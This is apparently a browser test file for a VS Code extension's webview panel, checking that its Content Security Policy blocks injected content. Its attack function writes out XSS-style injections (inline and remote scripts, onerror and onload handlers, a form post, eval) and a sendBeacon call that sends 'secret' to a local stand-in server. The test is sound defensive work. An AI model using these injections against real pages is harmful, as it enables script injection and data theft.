import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { webviewFrame } from './harness/webview.mjs'

export const file = 'digits/lenet.ts'

/** Elsewhere in the network, as seen from the panel; counts who asks. */
async function elsewhere() {
  const asked = []
  const server = createServer((request, response) => {
    asked.push(request.url)
    response.setHeader('Access-Control-Allow-Origin', '*').end('globalThis.ran?.push("remote")')
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  return { address: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close() }
}

export const tests = {
  'what gets into the panel neither runs, nor fetches, nor sends': async ({ page, editor }) => {
    await editor.lineMatching(/conv2d\(6.*28×28×6/)
    await editor.command('Convolens: Visualize Activations')
    const panel = await webviewFrame(page, 'Convolens: LeNet-5')
    await panel.getByTestId('explanation').waitFor()
    const { address, asked, close } = await elsewhere()
    // It is there, and would count.
    await fetch(`${address}/seen`)
    assert.deepEqual(asked.splice(0), ['/seen'])
    const { ran, threw, refused } = await panel.evaluate(attack, address)
    close()
    assert.deepEqual(ran, [])
    assert.deepEqual(asked, [])
    // Each attempt was made, and it was the policy that refused it.
    assert.deepEqual(threw, ['eval', 'Function', 'fetch'])
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'script-src',
      'img-src',
      'connect-src',
      'style-src-elem',
    ])
      assert.ok(refused.includes(directive), `${directive} is not among ${refused}`)
    for (const directive of ['frame-src', 'object-src', 'font-src', 'base-uri', 'form-action'])
      assert.ok(refused.includes(directive), `${directive} is not among ${refused}`)
  },
}

/** Runs in the panel, as what an attacker got into its document would. */
async function attack(address) {
  const ran = []
  const threw = []
  const refused = new Set()
  globalThis.ran = ran
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective))
  const put = (name, members, parent = document.body) => {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(members)) element.setAttribute(key, value)
    parent.append(element)
    return element
  }
  const markup = put('div', {})
  markup.innerHTML = `<img src="${address}/image.png"><img src="data:," onerror="ran.push('handler')"><svg onload="ran.push('svg')"></svg>`
  const inline = document.createElement('script')
  inline.textContent = "ran.push('inline')"
  document.body.append(inline)
  put('script', { src: `${address}/script.js` })
  put('script', { src: 'data:text/javascript,ran.push("data")' })
  put('link', { rel: 'stylesheet', href: `${address}/style.css` })
  put('iframe', { src: `${address}/frame.html` })
  put('object', { data: `${address}/object` })
  put('base', { href: address }, document.head)
  put('iframe', { name: 'other' })
  put('form', { action: `${address}/form`, method: 'post', target: 'other' }).submit()
  const font = new FontFace('stolen', `url(${address}/font.woff2)`)
  await font.load().catch(() => {})
  new WebSocket(address.replace('http', 'ws')).onopen = () => ran.push('socket')
  navigator.sendBeacon(`${address}/beacon`, 'secret')
  // Outside of the debugger's own call, which may evaluate what the page may not.
  await new Promise(resolve => {
    setTimeout(() => {
      for (const [name, evaluate] of [
        // biome-ignore lint/security/noGlobalEval: what is tried is that it is refused
        ['eval', text => eval(text)],
        ['Function', text => new Function(text)()],
      ]) {
        try {
          evaluate(`ran.push('${name}')`)
        } catch {
          threw.push(name)
        }
      }
      resolve()
    })
  })
  await fetch(`${address}/fetch`).then(
    () => ran.push('fetch'),
    () => threw.push('fetch'),
  )
  // Events of the policy come in tasks of their own, in order: what is refused last is told last.
  await new Promise(resolve => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => blockedURI.endsWith('/last') && resolve())
    new Image().src = `${address}/last`
  })
  return { ran, threw, refused: [...refused] }
}
